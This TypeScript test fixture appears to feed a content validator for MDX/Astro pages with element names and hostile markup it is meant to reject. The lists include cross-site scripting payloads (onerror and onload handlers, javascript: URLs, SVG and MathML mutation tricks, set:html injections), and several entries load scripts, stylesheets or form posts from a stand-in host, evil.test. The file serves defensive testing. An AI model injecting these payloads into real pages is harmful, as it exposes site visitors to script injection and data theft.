import { casesOf, type HostileBody, inPlaces } from './case.ts';

/** Markup that is not on the list of components. */
const rules = ['forbidden-element', 'mdx-syntax', 'code-in-text'];

const names =
  'a abbr address applet area article audio b base big blink body br button canvas center code del details dialog div embed fieldset ' +
  'font footer form frame frameset h1 head header hr html i iframe img input ins isindex keygen label link listing main map marquee ' +
  'math menu meta nav noembed noframes noscript object ol option output p param picture plaintext portal pre script section select ' +
  'slot source span style sub summary sup svg table tbody td template textarea title tr track u ul video wbr xmp';

const inherited = ['constructor', '__proto__', 'hasOwnProperty', 'toString', 'valueOf', 'prototype', '__defineGetter__', 'isPrototypeOf'];

const spelt = ['stat', 'STAT', 'Stat.x', 'Callout.default', 'components.Callout', 'svg:script', 'xlink:href', 'my-element', 'Fragment'];
const others = [
  'Script',
  'Image',
  'Content',
  'Debug',
  'React.Fragment',
  'this',
  'this.x',
  '甲',
  '$',
  '_',
  'Ѕtat',
  'Stat-x',
  'astro-island',
];

const whole = [
  '<script>alert(1)</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<style>{`body{display:none}`}</style>',
  '<style>@import "//evil.test/x.css"</style>',
  '<iframe src="javascript:alert(1)"/>',
  '<iframe srcdoc="&lt;script>x&lt;/script>"/>',
  '<object data="javascript:x"/>',
  '<embed src="x.swf"/>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src="x" onError="alert(1)"/>',
  '<img/src="x"/onerror="alert(1)"/>',
  '<p ONCLICK="alert(1)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.test/"><button formaction="javascript:x">y</button></form>',
  '<input autofocus onfocus="alert(1)"/>',
  '<details open ontoggle="alert(1)">x</details>',
  '<video><source onerror="alert(1)"/></video>',
  '<meta http-equiv="refresh" content="0;url=//evil.test"/>',
  '<base href="//evil.test/"/>',
  '<link rel="stylesheet" href="//evil.test/x.css"/>',
  '<link rel="modulepreload" href="//evil.test/x.js"/>',
  '<template shadowrootmode="open">x</template>',
  '<dialog open>x</dialog>',
  '<a ping="//evil.test" href="/">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#9;javascript:alert(1)">x</a>',
  '<a target="_blank" href="https://evil.test/">x</a>',
  '<p id="search" name="x" class="y" slot="z" is="w">x</p>',
  '<button is="x-y">x</button>',
  '<p set:html="<img src=x onerror=alert(1)>"/>',
  '<p set:text="x"/>',
  '<Fragment set:html="<script>x</script>"/>',
  '<Fragment slot="head">x</Fragment>',
  '<>甲</>',
  '<></>',
  '甲 <>乙</> 丙',
  '<plaintext>x</plaintext>',
  '<title><a href="</title><img src=x onerror=alert(1)>"/></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"/></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"/></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"/></noscript>',
  '<noembed><p title="</noembed><script>x</script>"/></noembed>',
];

const foreign = [
  '<svg onload="alert(1)"/>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><a href="javascript:x">y</a></foreignObject></svg>',
  '<svg><a xlink:href="javascript:x"><text>y</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:x"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<svg><style>x</style></svg>',
  '<svg><desc><script>x</script></desc></svg>',
  '<math><a href="javascript:x">y</a></math>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="y"/></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>x</script></annotation-xml></math>',
  '<math><maction actiontype="statusline" href="javascript:x">y</maction></math>',
  '<form><math><mtext><form><mglyph><style/></mglyph></form></mtext></math></form>',
];

const unparsed = [
  '<!-- 批注 -->',
  '<!--><script>x</script>-->',
  '<!DOCTYPE html>',
  '<?php x ?>',
  '<?xml version="1.0"?>',
  '<![CDATA[x]]>',
  '<a href=x>y</a>',
  '<b>甲',
  '甲</b>',
  '<b><i>甲</b></i>',
  '<https://evil.test>',
  '<a@b.cn>',
  '会员数<500家',
  '<',
  '</',
  '</>',
  '< script>alert(1)</script>',
  '<script',
  '<a href="x',
  '<a b="c" <d>',
  '<br>',
  '<hr>',
  '<img src="x">',
  '<Stat id="x">',
  '<Stat id=“x”/>',
  '<Callout type="note">甲',
];

/** Markup as it would stand in a page if no wall before had stopped it. */
export const hostileMarkup: readonly string[] = [...whole, ...foreign];

export const elementBodies: HostileBody[] = [
  ...casesOf('element', rules, [
    ...names.split(' ').map((name) => `<${name}/>`),
    ...[...inherited, ...spelt, ...others].map((x) => `<${x}/>`),
  ]),
  ...casesOf(
    'element with text',
    rules,
    inherited.map((name) => `<${name}>甲</${name}>`),
  ),
  ...casesOf('markup', rules, whole),
  ...casesOf('markup', rules, [
    [2, '甲\n<b>乙</b>'],
    [2, '<script\n>alert(1)</script\n>'],
    [3, '甲\n\n</Callout>'],
    [3, '<Callout type="note">\n\n<b>甲</b>\n\n</Callout>'],
  ]),
  ...casesOf('foreign markup', rules, foreign),
  ...casesOf('what does not parse', rules, unparsed),
  ...inPlaces('element', rules, ['<b>乙</b>', '<img src="x" onerror="alert(1)"/>']),
];
